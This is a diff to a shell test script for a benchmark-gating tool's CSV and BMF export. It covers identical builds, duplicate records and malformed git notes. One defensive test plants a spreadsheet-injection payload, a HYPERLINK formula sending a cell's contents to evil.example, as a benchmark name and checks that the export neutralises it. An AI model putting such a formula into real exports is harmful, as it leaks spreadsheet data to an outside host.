@@ -84,15 +84,23 @@ def floor(rep, b):
 def cell(v):
     return "" if v is None else "%.9g" % v
 
+def identical(b):
+    # passed unmeasured as an identical build: ratio 1 by construction
+    a = b.get("artifacts") or {}
+    return a.get("identical") is True and a.get("measured") is False
+
 rows = list(csv.DictReader(open(os.path.join(scratch, label + ".csv"))))
 want = [(c, rep, b) for c, rep in records for b in rep["benchmarks"]]
 assert len(rows) == len(want), (len(rows), len(want))
 for row, (c, rep, b) in zip(rows, want):
     assert row["commit"] == c and row["benchmark"] == b["name"], (row, c)
+    same = identical(b)
     exp = {"metric": b.get("metric", ""), "unit": b["unit"], "verdict": b["verdict"],
-           "ratio": cell(fig(b, "ratio", "estimate")), "low": cell(fig(b, "ratio", "low")),
-           "high": cell(fig(b, "ratio", "high")), "level": cell(fig(b, "ratio", "level")),
-           "floor": cell(floor(rep, b)), "head_median": cell(head_median(b))}
+           "ratio": "1" if same else cell(fig(b, "ratio", "estimate")),
+           "low": "1" if same else cell(fig(b, "ratio", "low")),
+           "high": "1" if same else cell(fig(b, "ratio", "high")), "level": cell(fig(b, "ratio", "level")),
+           "floor": cell(floor(rep, b)), "head_median": cell(head_median(b)),
+           "identical": "1" if same else "0"}
     got = {k: row[k] for k in exp}
     assert got == exp, (b["name"], got, exp)
 
@@ -120,10 +128,10 @@ for tb in trend["benchmarks"]:
         assert tb["metric"] == steps[-1][1].get("metric", "") and tb["unit"] == steps[-1][1]["unit"]
 
 bmf = json.load(open(os.path.join(scratch, label + ".bmf")))
-last = [b for b in records[-1][1]["benchmarks"] if (fig(b, "ratio", "estimate") or 0) > 0]
+last = [b for b in records[-1][1]["benchmarks"] if (fig(b, "ratio", "estimate") or 0) > 0 or identical(b)]
 assert sorted(bmf) == sorted(b["name"] for b in last), (sorted(bmf), last)
 for b in last:
-    assert bmf[b["name"]]["ratio"]["value"] == fig(b, "ratio", "estimate"), b["name"]
+    assert bmf[b["name"]]["ratio"]["value"] == (1 if identical(b) else fig(b, "ratio", "estimate")), b["name"]
 PY
 done
 # records with samples: change points were sought on head's values
@@ -150,3 +158,43 @@ expect_in "$ERR" "warning: the record of \"s\" on $(git -C "$R" rev-parse --shor
 expect_in "$ERR" "skipped"
 [ "$(wc -l <"$OUT")" -eq "$(wc -l <"$SCRATCH/s.csv")" ] ||
 	fail "a skipped record changed the other records' rows"
+# issue 26 item 5: export keeps every record: a commit recorded twice
+# gives both records' rows (the man page's promise), trend keeps one step
+n0=$(wc -l <"$OUT")
+gate_run 0 -C "$R" record --label s --commit HEAD "$root/tests/golden/plain.json"
+gate_run 0 -C "$R" export --format csv --label s
+nplain=$(json_get "$root/tests/golden/plain.json" 'len(d["benchmarks"])')
+[ "$(wc -l <"$OUT")" -eq $((n0 + nplain)) ] ||
+	fail "a second record on HEAD gave $(wc -l <"$OUT") rows, want $((n0 + nplain))"
+# the artifacts report's identical build is in the BMF, as ratio 1
+[ "$(json_get "$SCRATCH/s.bmf" 'd["docs"]["ratio"]["value"]')" = 1 ] ||
+	fail "the identical build is not in the BMF"
+# issue 27: garbage in the notes is counted and said, never silent
+git -C "$R" notes --ref=gate append -m "not json at all" HEAD~2
+git -C "$R" notes --ref=gate append -m '{"something": "else"}' HEAD~2
+gate_run 0 -C "$R" export --format csv --label s
+expect_in "$ERR" "2 lines of gate's notes are not a gate record"
+# issue 27: a name a spreadsheet would run is a plain text cell
+python3 - "$root/tests/golden/plain.json" "$SCRATCH/evil.json" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+d["benchmarks"][0]["name"] = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
+json.dump(d, open(sys.argv[2], "w"))
+PY
+gate_run 0 -C "$R" record --label e --commit HEAD "$SCRATCH/evil.json"
+gate_run 0 -C "$R" export --format csv --label e
+python3 - "$OUT" <<'PY' || fail "the CSV has a formula cell: $(cat "$OUT")"
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1])))
+cells = [c for r in rows[1:] for c in r]
+assert any(c.startswith("'=HYPERLINK(") for c in cells), cells
+assert not any(c[:1] in ("=", "+", "@") for c in cells), cells
+assert not any(c[:1] == "-" and not c[1:2].isdigit() for c in cells), cells
+PY
+# issue 26 item 5: one run's report as CSV, no history needed
+gate_run 0 export --format csv --report "$root/tests/golden/metrics.json"
+[ "$(wc -l <"$OUT")" -eq $((1 + $(json_get "$root/tests/golden/metrics.json" 'len(d["benchmarks"])'))) ] ||
+	fail "export --report gave $(wc -l <"$OUT") lines"
+expect_in "$OUT" ",encode,"
+gate_run 3 export --format bencher --report "$root/tests/golden/metrics.json"
+exit 0
